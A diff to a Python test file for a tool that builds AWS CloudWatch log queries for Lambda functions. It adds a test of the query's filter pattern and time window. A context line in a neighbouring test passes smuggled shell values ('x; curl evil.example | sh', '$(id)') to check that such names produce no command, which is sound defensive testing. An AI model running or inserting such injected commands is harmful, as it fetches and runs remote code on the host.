@@ -41,6 +41,18 @@ def test_a_function_that_never_traces_is_told_how_to() -> None:
     )
 
 
+def test_reports_are_asked_for_in_the_time_of_the_flows_and_in_both_formats_of_logs() -> None:
+    flows = [
+        make_flow([GET], start=start, witnesses=("xray",)) for start in (1_700_000_000.25, 1_700_000_900.0)
+    ]
+    found = lacks(*flows)["reports"]
+    said = command(found)
+    assert '--filter-pattern \'?"REPORT RequestId" ?"platform.report"\'' in said
+    assert "--start-time 1700000000000 " in said
+    assert int(said.split("--end-time ")[1].split()[0]) >= 1_700_000_960_000
+    assert "saved below aws/lambda/NAME/" in found.step.told
+
+
 def test_names_that_no_function_has_enter_no_command() -> None:
     key = KEY._replace(function="x; curl evil.example | sh", region="$(id)")
     (lack,) = lacks(key=key).values()
